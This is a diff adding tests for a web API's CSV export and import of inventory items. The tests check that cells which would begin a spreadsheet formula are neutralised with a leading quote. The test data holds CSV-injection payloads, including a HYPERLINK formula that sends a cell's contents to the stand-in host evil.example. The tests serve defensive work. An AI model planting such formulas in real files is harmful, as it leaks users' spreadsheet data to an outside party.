@@ -428,6 +428,96 @@ async def test_export_round_trips_through_import(
     assert mugs["counts"] == {"rows": 2}
 
 
+# Items whose text would start a spreadsheet formula (CSV injection), and the
+# row their export must write: a quote before each such cell, and nowhere else
+# (a name that starts with a quote of its own, "'tis", is written as it is).
+HOSTILE = [
+    (("-5", "=1+1", "+cmd"), ["'-5", "'=1+1", "'+cmd"]),
+    (("-2", "-2+3", "@SUM(A1)"), ["'-2", "'-2+3", "'@SUM(A1)"]),
+    (("tab", "\tx", "\rx"), ["tab", "'\tx", "'\rx"]),
+    (("quoted", "'=already quoted", "'tis"), ["quoted", "''=already quoted", "'tis"]),
+    (("tis", "'tis", None), ["tis", "'tis", ""]),
+    (("-", "=", "-"), ["'-", "'=", "'-"]),
+    (("lf", "@", "\n"), ["lf", "'@", "'\n"]),
+    (
+        ("link", '=HYPERLINK("https://evil.example/?leak="&A2,"Click")', "a\n=b"),
+        ["link", "'" + '=HYPERLINK("https://evil.example/?leak="&A2,"Click")', "a\n=b"],
+    ),
+    (("plain", "Blue mug", "mugs-and-cups"), ["plain", "Blue mug", "mugs-and-cups"]),
+]
+
+
+async def test_an_export_neutralises_formulas_and_still_round_trips(
+    client: httpx.AsyncClient,
+    sessionmaker: async_sessionmaker[AsyncSession],
+    user_headers: Headers,
+    job_settings: JobSettings,
+) -> None:
+    for (sku, name, description), _ in HOSTILE:
+        item = {"sku": sku, "name": name, "description": description}
+        created = await client.post(
+            "/api/v1/items", json={**item, "price": "0", "quantity": 0}, headers=user_headers
+        )
+        assert created.status_code == 201, created.text
+        assert {key: created.json()[key] for key in item} == item  # stored as sent
+    job = await run_job(
+        sessionmaker,
+        job_settings,
+        client,
+        user_headers,
+        await client.post("/api/v1/items/export", headers=user_headers),
+    )
+    download = await client.get(f"/api/v1/jobs/{job['id']}/result", headers=user_headers)
+    rows = list(csv.reader(io.StringIO(download.text, newline="")))
+    assert rows[0] == ["sku", "name", "description", "price", "quantity"]
+    # Numbers stay plain numbers.
+    assert sorted(rows[1:]) == sorted([*cells, "0.00", "0"] for _, cells in HOSTILE)
+    for row in rows:
+        assert not any(cell[:1] in "=+-@\t\r\n" for cell in row if cell), row
+
+    before = await items(client, user_headers)
+    back = await run_job(
+        sessionmaker,
+        job_settings,
+        client,
+        user_headers,
+        await upload(client, user_headers, download.content),
+    )
+    count = len(HOSTILE)
+    assert back["counts"] == {
+        "rows": count,
+        "created": 0,
+        "updated": 0,
+        "unchanged": count,
+        "skipped": 0,
+    }
+    assert await items(client, user_headers) == before
+    assert before["-5"]["name"] == "=1+1"
+    assert before["quoted"]["name"] == "'=already quoted"
+
+
+async def test_an_import_reads_a_quote_before_a_formula_as_an_export_writes_it(
+    client: httpx.AsyncClient,
+    sessionmaker: async_sessionmaker[AsyncSession],
+    user_headers: Headers,
+    job_settings: JobSettings,
+) -> None:
+    """A user's own file: a quote before a formula character is dropped, one
+    before anything else is kept; a cell without one is read as it stands."""
+    content = HEADER + "'-5,'=1+1,''@x,1,1\na,'tis,=2+2,1,1\n"
+    job = await run_job(
+        sessionmaker,
+        job_settings,
+        client,
+        user_headers,
+        await upload(client, user_headers, content),
+    )
+    assert job["counts"]["created"] == 2
+    stored = await items(client, user_headers)
+    assert (stored["-5"]["name"], stored["-5"]["description"]) == ("=1+1", "'@x")
+    assert (stored["a"]["name"], stored["a"]["description"]) == ("'tis", "=2+2")
+
+
 async def test_an_export_downloads_as_a_named_csv_file(
     client: httpx.AsyncClient,
     sessionmaker: async_sessionmaker[AsyncSession],
